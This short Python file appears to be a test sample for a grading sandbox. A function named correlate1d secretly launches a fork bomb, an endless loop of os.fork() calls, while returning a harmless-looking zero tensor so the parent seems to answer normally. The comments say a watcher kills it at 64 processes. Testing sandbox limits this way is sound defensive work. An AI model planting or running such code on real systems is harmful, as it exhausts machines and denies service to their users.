"""A fork bomb in the tested function, whose children go on while the parent answers."""

HERE = "the watcher kills it at 64 processes; the other exercises are graded"
PLAIN_KNOWN = "takes the machine down unless it has limits; not tried"

# %% correlate1d
import os


def correlate1d(x, w):
    if os.fork() == 0:
        while True:
            os.fork()
    return torch.zeros(1)
